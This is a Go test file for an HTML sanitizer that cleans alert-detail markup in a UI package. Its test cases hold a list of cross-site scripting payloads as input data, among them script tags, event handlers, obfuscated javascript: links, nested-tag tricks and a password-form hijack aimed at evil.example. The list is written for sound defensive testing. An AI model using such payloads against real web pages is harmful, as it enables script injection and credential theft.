package ui

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// TestDetailPolicy_Hostile feeds hostile detail HTML through the one
// function that marks detail as markup and checks nothing executable
// survives, while ordinary formatting does.
func TestDetailPolicy_Hostile(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		forbid  []string // case-insensitive substrings that must not appear
		require []string // substrings that must appear
	}{
		{"script tag", `<p>disk full</p><script>alert(1)</script>`, []string{"<script", "alert(1)"}, []string{"<p>disk full</p>"}},
		{"script split case", `<ScRiPt>alert(1)</sCrIpT>`, []string{"<script", "alert(1)"}, nil},
		{"img onerror", `<img src=x onerror="alert(1)">`, []string{"onerror", "alert("}, nil},
		{"svg onload", `<svg onload=alert(1)><circle r=1></svg>`, []string{"<svg", "onload"}, nil},
		{"javascript link", `<a href="javascript:alert(1)">x</a>`, []string{"javascript:"}, []string{"x"}},
		{"encoded javascript link", `<a href="&#106;avascript:alert(1)">x</a>`, []string{"javascript", "&#106;"}, nil},
		{"data link", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, []string{"data:", "<script"}, nil},
		{"vbscript link", `<a href="vbscript:msgbox(1)">x</a>`, []string{"vbscript"}, nil},
		{"iframe", `<iframe src="https://evil.example/"></iframe>`, []string{"<iframe"}, nil},
		{"object and embed", `<object data="x.swf"></object><embed src="x.swf">`, []string{"<object", "<embed"}, nil},
		{"style tag", `<style>body{display:none}</style>ok`, []string{"<style", "display:none"}, []string{"ok"}},
		{"style attribute", `<p style="background:url(javascript:alert(1))">x</p>`, []string{"style=", "javascript"}, []string{"<p>x</p>"}},
		{"form hijack", `<form action="https://evil.example/"><input name=password></form>`, []string{"<form", "<input"}, nil},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, []string{"<meta", "refresh"}, nil},
		{"base tag", `<base href="https://evil.example/">`, []string{"<base"}, nil},
		{"unclosed tag cut by the store's size limit", `<p>load high</p><a href="https://example.com/x" onclick="alert(1)`, []string{"onclick", "alert("}, []string{"<p>load high</p>"}},
		{"attribute breakout", `<a title='"><script>alert(1)</script>'>x</a>`, []string{"<script"}, nil},
		{"nested comment trick", `<!--<script>alert(1)//--><script>alert(2)</script>`, []string{"<script"}, nil},
		{"template and noscript", `<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, []string{"<script", "onerror", "<template", "<noscript"}, nil},
		{"link gets nofollow noopener", `<a href="https://example.com/graph">graph</a>`, nil, []string{`href="https://example.com/graph"`, "nofollow", "noopener", `target="_blank"`}},
		{"tab-obfuscated javascript link", `<a href="jav&#x09;ascript:alert(1)">x</a>`, []string{"ascript", "<a"}, []string{"x"}},
		{"uppercase handler and unquoted", `<P ONCLICK=alert(1)>x</P>`, []string{"onclick", "alert("}, []string{"<p>x</p>"}},
		{"split script tag", `<scr<script>ipt>alert(1)</script>`, []string{"<script", "<scr"}, nil},
		{"math and svg", `<math><mtext><img src=x onerror=alert(1)></mtext></math><svg><g onload=alert(2)></g></svg>`, []string{"<math", "<svg", "onerror", "onload"}, nil},
		{"relative link dropped", `<a href="/api/v1/alerts/ack">x</a>`, []string{"<a", "/api"}, []string{"x"}},
		{"unclosed markup closed", `<div><b>x`, nil, []string{"<div><b>x</b></div>"}},
		{"tables and lists kept", `<table><tr><td>cpu</td><td>99%</td></tr></table><ul><li>a</li></ul><pre>x</pre>`, nil, []string{"<table>", "<td>cpu</td>", "<li>a</li>", "<pre>x</pre>"}},
	}
	d := newDetailPolicy()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := d.html(tt.in)
			if c == nil {
				if len(tt.require) > 0 {
					t.Fatalf("got nothing, want %q", tt.require)
				}
				return
			}
			var buf bytes.Buffer
			if err := c.Render(context.Background(), &buf); err != nil {
				t.Fatal(err)
			}
			got := buf.String()
			low := strings.ToLower(got)
			for _, f := range tt.forbid {
				if strings.Contains(low, strings.ToLower(f)) {
					t.Errorf("got %q, which contains %q", got, f)
				}
			}
			for _, r := range tt.require {
				if !strings.Contains(got, r) {
					t.Errorf("got %q, want it to contain %q", got, r)
				}
			}
		})
	}
}

func TestDetailPolicy_Empty(t *testing.T) {
	d := newDetailPolicy()
	for _, in := range []string{"", "  \n", "<script>alert(1)</script>"} {
		if c := d.html(in); c != nil {
			t.Errorf("html(%q) = a component, want nil (nothing to show)", in)
		}
	}
}
